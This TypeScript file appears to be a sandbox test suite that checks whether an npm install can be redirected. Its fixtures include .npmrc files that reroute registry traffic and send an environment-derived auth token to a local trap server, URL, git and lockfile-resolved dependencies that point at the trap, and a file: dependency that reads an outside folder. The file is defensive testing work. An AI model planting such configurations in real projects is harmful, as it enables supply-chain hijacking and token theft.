import type { Attack, Harm, Told } from './attack.ts';
import { orderFor } from './needs.ts';
import type { Place } from './place.ts';

/** Files that lead npm elsewhere while it installs, in a jail that reaches registries. Ours is a machine that is none. */
export const installing: readonly Attack[] = [
  installed('an .npmrc that names another registry, and sends it what is in the environment', {
    files: ({ trap }) => ({
      'package.json': manifest({ '@own/x': '1.0.0' }),
      '.npmrc': `@own:registry=http://127.0.0.1:${trap.port}/\n//127.0.0.1:${trap.port}/:_authToken=\${PATCHWRIGHT_CANARY}\n`,
    }),
    harm: ['connects', 'reads'],
  }),
  installed('an .npmrc that sends all requests another way', {
    files: ({ trap }) => ({
      'package.json': manifest({ '@own/x': '1.0.0' }),
      '.npmrc': `registry=http://127.0.0.1:${trap.port}/\nproxy=http://127.0.0.1:${trap.port}/\n`,
    }),
    harm: ['connects'],
  }),
  installed('a dependency by its address', {
    files: ({ trap }) => ({
      'package.json': manifest({ x: `http://127.0.0.1:${trap.port}/x.tgz` }),
    }),
    harm: ['connects'],
  }),
  installed('a lockfile that has a package come from elsewhere', {
    files: ({ trap }) => ({
      'package.json': manifest({ x: '1.0.0' }),
      'package-lock.json': JSON.stringify({
        lockfileVersion: 3,
        packages: {
          '': { dependencies: { x: '1.0.0' } },
          'node_modules/x': { version: '1.0.0', resolved: `http://127.0.0.1:${trap.port}/x.tgz` },
        },
      }),
    }),
    harm: ['connects'],
  }),
  installed('a dependency that is a repository of this machine', {
    files: ({ trap }) => ({
      'package.json': manifest({ x: `git+http://127.0.0.1:${trap.port}/x.git` }),
    }),
    harm: ['connects'],
  }),
  installed('a dependency that is a folder of this machine', {
    files: ({ outside }) => ({ 'package.json': manifest({ x: `file:${outside}` }) }),
    harm: ['reads'],
  }),
];

interface Installation {
  readonly files: (place: Place) => Readonly<Record<string, string>>;
  readonly harm: readonly Harm[];
}

function installed(name: string, { files, harm }: Installation): Attack {
  const needs = ['npm'];
  const argv = [
    'npm',
    'install',
    '--ignore-scripts',
    '--no-audit',
    '--no-fund',
    '--fetch-retries=0',
    '--install-links',
  ] as const;
  return {
    name,
    class: 'packages run code',
    needs,
    build: (place) => place.write(files(place)),
    tame: (place) => place.runTamely({ argv, cwd: place.tree }),
    held: async (place) =>
      withReason(await place.run(argv, { order: { ...orderFor(needs, place), network: 'registries' } })),
    harm,
    ended: /^exited: npm error/,
  };
}

/** It must have tried. */
function withReason({ ended, output, harm }: Told): Told {
  return { ended: `${ended}: ${/^npm error.*$/m.exec(output)?.[0] ?? output}`, output, harm };
}

function manifest(dependencies: Readonly<Record<string, string>>): string {
  return JSON.stringify({ name: 'own', version: '1.0.0', dependencies });
}
